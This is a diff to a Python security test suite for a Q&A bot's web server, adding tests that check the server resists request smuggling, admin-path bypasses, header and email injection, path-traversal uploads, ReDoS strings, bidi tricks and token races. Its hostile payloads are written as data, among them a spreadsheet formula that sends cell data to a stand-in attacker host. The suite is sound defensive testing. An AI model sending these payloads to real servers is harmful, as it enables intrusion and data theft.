@@ -5,11 +5,14 @@ from __future__ import annotations
 import asyncio
 import re
 import time
-from collections.abc import Awaitable, Callable
+from collections.abc import Awaitable, Callable, Iterator
+from contextlib import closing
+from io import BytesIO
 from pathlib import Path
 
 import httpx
 import pytest
+from openpyxl import load_workbook
 
 from bot import wording
 from bot.channels.web import server
@@ -311,6 +314,7 @@ async def open_redirect(site: Web, client: httpx.AsyncClient) -> None:
     ):
         page = await client.get(httpx.URL(BASE + path), follow_redirects=False)
         assert "evil" not in page.headers.get("location", "")
+        assert 'href="//' not in page.text
 
 
 async def host_header(site: Web, client: httpx.AsyncClient) -> None:
@@ -396,6 +400,192 @@ async def errors_tell_nothing(site: Web, client: httpx.AsyncClient) -> None:
         assert str(Path.cwd()) not in said
 
 
+# ---------------------------------------------------------------- more of the wire
+
+
+async def ranges_without_end(site: Web, client: httpx.AsyncClient) -> None:
+    """Thousands of overlapping ranges: the file once more for each would be gigabytes, sorting them out minutes."""
+    whole = len((await client.get("/files/setup-guide.docx")).content)
+    asked = ",".join(f"{at}-" for at in range(4000))
+    page = await client.get("/files/setup-guide.docx", headers={"range": f"bytes={asked}"})
+    assert page.status_code in (200, 206, 400, 416)
+    assert len(page.content) <= 2 * whole
+    for odd in ("bytes=-", "bytes=9-1", "bytes=a-b", "bytes=0-0,-1,99999999999999999999-", "lines=1-2"):
+        assert (await client.get("/files/setup-guide.docx", headers={"range": odd})).status_code < 500
+
+
+async def another_address_in_a_header(site: Web, client: httpx.AsyncClient) -> None:
+    """What proxies before some servers say; nobody asked this one to listen."""
+    client.headers.update({"x-original-url": "/admin", "x-rewrite-url": "/admin", "x-forwarded-host": "evil.example"})
+    for path in ("/", "/for-sites", "/atom.xml", "/sitemap.xml"):
+        page = await client.get(path)
+        assert "evil.example" not in page.text
+        assert page.status_code in (200, 404)
+
+
+async def another_method_in_a_header(site: Web, client: httpx.AsyncClient) -> None:
+    client.cookies.set("jha", admin_of(site))
+    await client.get("/admin/logout", headers={"x-http-method-override": "POST"})
+    await client.get("/admin/new", params={"_method": "POST", "do": "save", "question": "甲", "answer": "乙"})
+    assert (await client.get("/admin")).status_code == 200
+    assert site.site.services.knowledge().get("甲") is None
+
+
+async def doors_beside_the_console(site: Web, client: httpx.AsyncClient) -> None:
+    """Other spellings of its address get nothing either."""
+    for path in (
+        "//admin",
+        "/admin/",
+        "/%61dmin/knowledge",
+        "/Admin",
+        "/admin;x=1",
+        "/./admin",
+        "/x/..;/admin",
+        "/admin%2fknowledge",
+    ):
+        page = await client.get(httpx.URL(BASE + path))
+        assert page.status_code in (400, 401, 404), path
+        assert wording.CONSOLE_INQUIRIES not in page.text
+
+
+async def a_cookie_that_was_signed_out(site: Web, client: httpx.AsyncClient) -> None:
+    client.cookies.set("jha", admin_of(site))
+    assert (await client.get("/admin")).status_code == 200
+    await client.post("/admin/logout")
+    client.cookies.clear()
+    client.cookies.set("jha", "s" * 40)
+    assert (await client.get("/admin")).status_code == 401
+
+
+async def a_token_spent_by_two_at_once(site: Web, client: httpx.AsyncClient) -> None:
+    from bot.channels.web.visitors import digest
+
+    site.site.services.store.issue_token(digest("t" * 40), "telegram:1", 9e12)
+    async with site.browser() as other:
+        pages = await asyncio.gather(*(one.post("/admin/login", data={"token": "t" * 40}) for one in (client, other)))
+    assert sorted(page.status_code for page in pages) == [200, 403]
+
+
+async def one_form_from_two_hands(site: Web, client: httpx.AsyncClient) -> None:
+    """The same key at the same time: one question, one answer."""
+    await client.post("/ask", data={"q": "你好"})
+    sent = {"q": "会费交多少", "once": "k" * 20}
+    await asyncio.gather(*(client.post("/ask", data=sent) for _ in range(5)))
+    asked = [one for one in site.site.services.store.asked_between(0, 9e12) if one.question == "会费交多少"]
+    assert len(asked) == 1
+
+
+async def several_cookies_of_one_name(site: Web, client: httpx.AsyncClient) -> None:
+    async with site.browser() as other:
+        await other.post("/ask", data={"q": "怎么加入工会"})
+        signed = other.cookies["jh"]
+    page = await client.get("/talk", headers={"cookie": f"jh=x; jh={signed[:-3]}; jha=1; jha=2"})
+    assert page.status_code < 500
+    assert "怎么加入工会" not in words(page.text)
+
+
+async def an_address_with_a_second_header(site: Web, client: httpx.AsyncClient) -> None:
+    """In the field for a mailbox."""
+    page = await client.post("/ask", data={"q": "冰箱里的剩菜能放几天"})
+    link = re.search(r'href="(/q/[^"]+)"', page.text)
+    assert link
+    for address in ("a@b.cn\r\nBcc: x@evil.example", "a@b.cn,x@evil.example", "<script>@b.cn", "a@b.cn\0"):
+        await client.post(f"{link[1]}/mail", data={"address": address})
+        assert "evil.example" not in (await client.get(link[1])).text
+
+
+# ---------------------------------------------------------------- what programs read
+
+
+async def a_question_as_a_formula(site: Web, client: httpx.AsyncClient) -> None:
+    """What enough people ask stands in the report: as words, whatever it begins with."""
+    formula = '=HYPERLINK("https://evil.example?"&A1,"冰箱里的剩菜能放几天")'
+    for number in range(6):
+        async with site.browser(f"203.0.{number}.9") as other:
+            await other.post("/ask", data={"q": formula})
+    client.cookies.set("jha", admin_of(site))
+    for path in ("/admin/numbers/report.xlsx", "/admin/export.xlsx"):
+        file = await client.get(path)
+        assert file.status_code == 200
+        cells = [cell for sheet in load_workbook(BytesIO(file.content)) for row in sheet.iter_rows() for cell in row]
+        assert [cell.value for cell in cells if cell.data_type == "f" and "evil" in str(cell.value)] == []
+
+
+async def json_without_an_end(site: Web, client: httpx.AsyncClient) -> None:
+    for body in ("[" * 100_000, '{"question":' * 20_000, '{"question": ' + "9" * 50_000 + "}", '{"question": NaN}', "\ufeff{}"):
+        page = await client.post("/api/v1/ask", content=body.encode(), headers={"content-type": "application/json"})
+        assert page.status_code in (400, 413, 422), body[:20]
+
+
+async def json_of_another_shape(site: Web, client: httpx.AsyncClient) -> None:
+    for question in ({"$ne": ""}, ["a"], None, True, 1, ""):
+        assert (await client.post("/api/v1/ask", json={"question": question})).status_code == 422
+    assert (await client.post("/api/v1/ask", json=["question"])).status_code in (400, 422)
+    for query in (
+        "limit=1e9",
+        "limit=-1",
+        "offset=99999999999999999999",
+        "limit=%00",
+        "limit=１０",
+        "topic=../x",
+        "q=" + "%E9%95%BF" * 900,
+    ):
+        for path in ("entries", "documents", "laws", "changes"):
+            assert (await client.get(f"/api/v1/{path}?{query}")).status_code < 500, (path, query)
+
+
+async def a_text_that_takes_for_ever(site: Web, client: httpx.AsyncClient) -> None:
+    """Patterns that go back and forth over a long run."""
+    for text in ("（" * 1900, "a" * 1900, "一" * 1900, "?" * 1900, "的吗" * 950, "1." * 950, "第一条" * 600, "\u0301" * 1900):
+        async with asyncio.timeout(30):
+            assert (await client.post("/ask", data={"q": text})).status_code < 500
+        async with asyncio.timeout(30):
+            assert (await client.get("/search", params={"q": text[:200]})).status_code < 500
+
+
+async def text_that_turns_what_follows(site: Web, client: httpx.AsyncClient) -> None:
+    """Marks of writing direction in a question would turn around what stands beside it on an admin's page."""
+    await client.post("/ask", data={"q": "冰箱里的剩菜\u202e能放几天\u2066"})
+    site.staff.inquiries.run_due_work()
+    client.cookies.set("jha", admin_of(site))
+    for path in ("/admin", "/admin/inquiries", "/admin/inquiries/1"):
+        assert not set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068") & set((await client.get(path)).text)
+
+
+# ---------------------------------------------------------------- admins of less standing
+
+
+async def an_upload_s_name_leads_elsewhere(site: Web, client: httpx.AsyncClient) -> None:
+    client.cookies.set("jha", admin_of(site))
+    before = sorted(path for path in site.settings.guides.rglob("*") if path.is_file())
+    for name in ("../../../evil.docx", "/etc/evil.docx", "..\\..\\evil.docx", "setup-guide.docx\0.exe"):
+        await client.post("/admin/documents/setup-guide", data={"do": "check"}, files={"file": (name, b"PK\x03\x04 no zip")})
+    assert sorted(path for path in site.settings.guides.rglob("*") if path.is_file()) == before
+
+
+async def an_editor_says_yes_to_herself(site: Web, client: httpx.AsyncClient) -> None:
+    from bot.model import Change, Proposal
+
+    store = site.site.services.store
+    held = store.hold_edit("telegram:2", Proposal("改", (Change("setup.yaml", "a", "b"),), ("setup-must",)))
+    client.cookies.set("jha", admin_of(site, "telegram:2"))
+    page = await client.post(f"/admin/held/{held.id}", data={"do": "agree"})
+    assert page.status_code in (403, 409)
+    kept = store.held_edit(held.id)
+    assert kept is not None
+    assert kept.state == "open"
+
+
+async def an_old_edit_saved_again(site: Web, client: httpx.AsyncClient) -> None:
+    """A made-up confirmation of an edit that nobody was shown."""
+    client.cookies.set("jha", admin_of(site))
+    known = site.site.services.knowledge().get("setup-must")
+    data = {"do": "save", "sure": "0" * 24, "seen": "0" * 24, "answer": "改了", "question": "改了"}
+    await client.post("/admin/knowledge/setup-must", data=data)
+    await client.post("/admin/import", data={"do": "apply", "nonce": "n"}, files={"x": ("", b"")})
+    assert site.site.services.knowledge().get("setup-must") == known
+
+
 ATTACKS: tuple[Attack, ...] = (
     cross_site_ask, same_site_but_other_origin_ask, evil_origin, null_origin, cross_site_delete, cross_site_console,
     other_methods, a_get_changes_nothing, framed_site, framed_console, embedded_elsewhere, script_in_question,
@@ -405,7 +595,11 @@ ATTACKS: tuple[Attack, ...] = (
     session_fixed_before_signing_in, guessed_session, token_replayed, token_guessed, token_too_old, session_of_nobody,
     session_read_from_cookie_of_visitors, open_redirect, host_header, forged_forwarded_for, header_injection, too_large,
     too_large_without_a_length, too_many_fields, a_file_where_none_belongs, broken_multipart, bytes_that_are_no_text,
-    an_action_too_long, errors_tell_nothing,
+    an_action_too_long, errors_tell_nothing, ranges_without_end, another_address_in_a_header, another_method_in_a_header,
+    doors_beside_the_console, a_cookie_that_was_signed_out, a_token_spent_by_two_at_once, one_form_from_two_hands,
+    several_cookies_of_one_name, an_address_with_a_second_header, a_question_as_a_formula, json_without_an_end,
+    json_of_another_shape, a_text_that_takes_for_ever, text_that_turns_what_follows, an_upload_s_name_leads_elsewhere,
+    an_editor_says_yes_to_herself, an_old_edit_saved_again,
 )  # fmt: skip
 
 
@@ -413,12 +607,20 @@ ATTACKS: tuple[Attack, ...] = (
 async def test_nothing_comes_of_an_attack(
     attack: Attack, web_settings: Settings, live: LiveKnowledge, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setenv("JIANHUI_ADMINS", "telegram:1")
+    monkeypatch.setenv("JIANHUI_ADMINS", "telegram:1, telegram:2=编辑")
     store = SqliteStore(tmp_path / "web.db")
-    with web(web_settings, live, store, web_embed=("https://gh.example.org",), admins=("telegram:1",)) as site:
+    admins = ("telegram:1", "telegram:2")
+    with web(web_settings, live, store, web_embed=("https://gh.example.org",), admins=admins) as site:
         async with site.browser() as client:
             await attack(site, client)
     store.close()
+
+
+@pytest.fixture(scope="module")
+def wire_base(web_settings: Settings, live: LiveKnowledge, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """The address of a site on a port."""
+    with closing(SqliteStore(tmp_path_factory.mktemp("wire") / "web.db")) as store, served(web_settings, live, store) as base:
+        yield base
 
 
 def test_a_drip_of_bytes_is_not_waited_for(
@@ -443,3 +645,47 @@ async def _drip(base: str) -> None:
             ends = await asyncio.gather(*(reader.read() for reader, _ in slow), return_exceptions=True)
         assert len(ends) == 50
         assert (await client.get(base)).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        b"POST /ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+        b"GET /admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
+        b"POST /ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nq=abcd",
+        b"GET http://evil.example/for-sites HTTP/1.1\r\nHost: evil.example\r\n\r\n",
+        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n\r\n",
+        b"GET / HTTP/1.1\r\n\r\n",
+        b"GET /for-sites HTTP/1.0\r\n\r\n",
+        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: " + b"a" * 200_000 + b"\r\n\r\n",
+        b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
+        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
+        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: b\nadmin: 1\r\n\r\n",
+    ],
+    ids=[
+        "two lengths", "unequal lengths", "whole address", "two hosts", "no host", "old", "long head", "long path", "tls",
+        "bare newline",
+    ],
+)  # fmt: skip
+def test_what_is_no_proper_request_is_not_served(sent: bytes, wire_base: str) -> None:
+    answer = asyncio.run(_told(wire_base, sent))
+    assert b"evil.example" not in answer
+    assert answer.count(b"HTTP/1.1 ") <= 1  # what was hidden in the body is no request of its own
+    assert b" 500 " not in answer.partition(b"\r\n")[0]
+
+
+async def _told(base: str, sent: bytes) -> bytes:
+    host, _, port = base.removeprefix("http://").partition(":")
+    reader, writer = await asyncio.open_connection(host, int(port))
+    answer = b""
+    try:
+        writer.write(sent)
+        async with asyncio.timeout(30):
+            await writer.drain()
+            while more := await reader.read(65536):
+                answer += more
+    except (OSError, TimeoutError):
+        pass  # it hung up
+    finally:
+        writer.close()
+    return answer
